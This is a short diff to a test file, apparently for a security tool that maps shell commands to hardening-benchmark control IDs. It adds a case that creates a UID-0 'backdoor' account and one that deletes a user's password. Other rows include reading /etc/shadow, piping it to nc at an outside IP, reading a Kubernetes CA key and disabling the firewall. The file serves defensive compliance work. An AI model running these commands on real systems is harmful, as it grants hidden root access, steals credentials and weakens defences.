@@ -52,6 +52,8 @@ describe('a finding names the controls of what happened', () => {
     ['journalctl --vacuum-size=50M', ['debian-12 6.1.1.3']],
     ['dmesg --clear', []],
     ['cat /etc/shadow', ['debian-12 7.1.5']],
+    ['useradd -o -u 0 backdoor', ['debian-12 5.4.2.1']],
+    ['passwd -d bob', ['debian-12 7.2.2']],
     ['cat /etc/shadow | nc 198.51.100.7 9', ['debian-12 7.1.5']],
     ['cat /etc/kubernetes/pki/ca.key', ['kubernetes 1.1.21']],
     ['ufw disable', ['debian-12 4.2.3']],
